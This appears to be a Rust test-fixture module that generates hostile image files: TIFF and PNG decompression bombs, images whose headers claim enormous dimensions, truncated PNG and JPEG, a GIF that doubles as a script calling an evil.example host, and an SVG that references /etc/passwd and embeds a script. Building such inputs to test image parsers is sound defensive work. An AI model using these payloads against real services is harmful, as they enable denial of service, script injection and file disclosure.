//! Images that promise more than they contain, or are none.

use super::zlib_zeros;

/// `pages` pages of `side` by `side` black dots, all of them the same few bytes.
pub fn tiff_bomb(pages: usize, side: u32) -> Vec<u8> {
    let megabytes = (u64::from(side) * u64::from(side) / 8).div_ceil(1 << 20);
    let strip = zlib_zeros(usize::try_from(megabytes).unwrap_or_default());
    let number = |value: usize| u32::try_from(value).unwrap_or_default();
    // Width, height, bits a sample, Deflate, photometry, strip, samples, rows, bytes.
    let directory_bytes = 2 + 9 * 12 + 4;
    let first = 8 + strip.len();
    let mut bytes = b"MM\0\x2a".to_vec();
    bytes.extend(number(first).to_be_bytes());
    bytes.extend(&strip);
    for page in 1..=pages {
        let next = if page == pages { 0 } else { first + page * directory_bytes };
        bytes.extend(9_u16.to_be_bytes());
        for (tag, value) in [
            (256_u16, side),
            (257, side),
            (258, 1),
            (259, 8),
            (262, 1),
            (273, 8),
            (277, 1),
            (278, side),
            (279, number(strip.len())),
        ] {
            bytes.extend(tag.to_be_bytes());
            bytes.extend(4_u16.to_be_bytes());
            bytes.extend(1_u32.to_be_bytes());
            bytes.extend(value.to_be_bytes());
        }
        bytes.extend(number(next).to_be_bytes());
    }
    bytes
}

/// Its header promises 40,000 by 40,000 pixels, but there are none.
pub fn huge_png() -> Vec<u8> {
    png(40_000, &[(b"IDAT", &[])])
}

/// One pixel, with a color profile that unfolds to `megabytes`.
pub fn profile_bomb_png(megabytes: usize) -> Vec<u8> {
    let profile = [b"bomb\0\0".as_slice(), &zlib_zeros(megabytes)].concat();
    png(1, &[(b"iCCP", &profile), (b"IDAT", &zlib_zeros(1))])
}

pub fn truncated_png() -> Vec<u8> {
    png(20, &[(b"IDAT", &zlib_zeros(1)[..40])])
}

fn png(side: u32, chunks: &[(&[u8; 4], &[u8])]) -> Vec<u8> {
    let header = [&side.to_be_bytes().repeat(2), [8, 2, 0, 0, 0].as_slice()].concat();
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, content) in std::iter::once((b"IHDR", header.as_slice())).chain(chunks.iter().copied()) {
        let named = [kind.as_slice(), content].concat();
        bytes.extend(u32::try_from(content.len()).unwrap_or_default().to_be_bytes());
        bytes.extend(&named);
        let mut sum = flate2::Crc::new();
        sum.update(&named);
        bytes.extend(sum.sum().to_be_bytes());
    }
    bytes
}

/// Its frame promises 65,535 by 65,535 pixels, but there are none.
pub fn huge_jpeg() -> Vec<u8> {
    let frame = b"\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\x01\x11\0\x02\x11\0\x03\x11\0";
    [b"\xff\xd8", frame.as_slice(), b"\xff\xda\0\x0c\x03\x01\0\x02\0\x03\0\0\x3f\0", &[0; 64]].concat()
}

pub fn truncated_jpeg() -> Vec<u8> {
    huge_jpeg()[..12].to_vec()
}

/// An image for one reader, a script for another.
pub fn gif_with_script() -> Vec<u8> {
    b"GIF89a/*\0\0\0\0\0*/=1;fetch('https://evil.example')".to_vec()
}

pub fn svg() -> Vec<u8> {
    b"<svg xmlns='http://www.w3.org/2000/svg'><image href='file:///etc/passwd'/><script>alert(1)</script></svg>"
        .to_vec()
}
